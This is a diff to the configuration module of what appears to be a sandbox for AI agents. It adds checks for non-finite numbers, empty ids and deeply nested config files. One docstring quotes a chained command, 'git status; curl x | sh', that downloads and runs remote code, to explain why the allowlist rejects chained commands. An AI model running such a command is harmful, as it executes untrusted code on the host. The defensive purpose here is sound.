@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import dataclasses
 import ipaddress
+import math
 import os
 import re
 import tomllib
@@ -196,7 +197,9 @@ class ApprovalsConfig:
     mode: Literal["off", "on-miss", "always"] = "off"
     """on-miss: ask unless the command matches the allowlist; always: ask for every command."""
     allowlist: tuple[str, ...] = ()
-    """Shell-style patterns (fnmatch) over the command, e.g. "git status", "pytest *"."""
+    """Shell-style patterns (fnmatch) over the command, e.g. "git status", "pytest *". Only a
+    single simple command can match: one chained with another (`;`, `&&`, `|`, a new line, a
+    substitution) is asked about, or "git *" would pass "git status; curl x | sh"."""
     timeout_s: float = 120.0
     """No decision in time is a deny."""
     no_approver: Literal["deny", "allow"] = "deny"
@@ -268,6 +271,7 @@ class CustomToolConfig:
     workdir: str = "."
     env: Mapping[str, str] = field(default_factory=dict)
     profiles: tuple[str, ...] = ("coding", "full")
+    """The profiles that include this tool; `full` includes every tool in any case."""
 
 
 @dataclass(frozen=True)
@@ -426,6 +430,8 @@ def _check(cfg: Config) -> None:
         "limits.burst": cfg.limits.burst,
         "limits.max_concurrent": cfg.limits.max_concurrent,
         "approvals.timeout_s": cfg.approvals.timeout_s,
+        "tools.user_max_bytes": cfg.tools.user_max_bytes,
+        "audit.max_arguments_bytes": cfg.audit.max_arguments_bytes,
     }
     for name, value in positive.items():
         if value <= 0:
@@ -451,11 +457,39 @@ def _check(cfg: Config) -> None:
     if uid in ("0", "root", ""):
         raise ConfigError("sandbox.user must not be root")
     _check_network(cfg.network)
+    _check_policy(cfg)
     _check_housekeeping(cfg.housekeeping)
     _check_observability(cfg.observability)
     _check_auth(cfg.auth, cfg.tenants)
     if cfg.engine.kind not in ("podman", "docker"):
         raise ConfigError(f"engine.kind must be podman or docker, got {cfg.engine.kind!r}")
+
+
+def _check_policy(cfg: Config) -> None:
+    """What the policy pipeline cannot check itself: numbers that NaN or infinity would make
+    fail open (a NaN rate never runs out of tokens), and ids that could never match a call."""
+    for name, value in {
+        "limits.rate_per_s": cfg.limits.rate_per_s,
+        "approvals.timeout_s": cfg.approvals.timeout_s,
+    }.items():
+        check_seconds(name, value)
+    if cfg.subagents.max_depth < 1:
+        raise ConfigError(f"subagents.max_depth must be at least 1, got {cfg.subagents.max_depth}")
+    tables: dict[str, Mapping[str, Any]] = {
+        "agents": cfg.agents,
+        "groups": cfg.groups,
+        "tools.by_provider": cfg.tools.by_provider,
+        **{f"agents.{a}.tools.by_provider": c.tools.by_provider for a, c in cfg.agents.items()},
+    }
+    for where, table in tables.items():
+        if "" in table:
+            raise ConfigError(f"{where}: an id must not be empty")
+
+
+def check_seconds(name: str, value: float) -> None:
+    """A positive, finite number (of seconds, or per second) up to MAX_SECONDS."""
+    if not math.isfinite(value) or value > MAX_SECONDS:
+        raise ConfigError(f"{name} must be a finite number up to {MAX_SECONDS:.0f}, got {value}")
 
 
 def _check_observability(obs: ObservabilityConfig) -> None:
@@ -555,6 +589,8 @@ def load_config(path: Path | None = None, overrides: dict[str, Any] | None = Non
             data = tomllib.loads(path.read_text())
         except (OSError, tomllib.TOMLDecodeError) as exc:
             raise ConfigError(f"cannot read config {path}: {exc}") from exc
+        except RecursionError:
+            raise ConfigError(f"cannot read config {path}: it nests too deeply") from None
     env = {
         "listen": os.environ.get("STOCKADE_LISTEN"),
         "state_dir": os.environ.get("STOCKADE_STATE_DIR"),
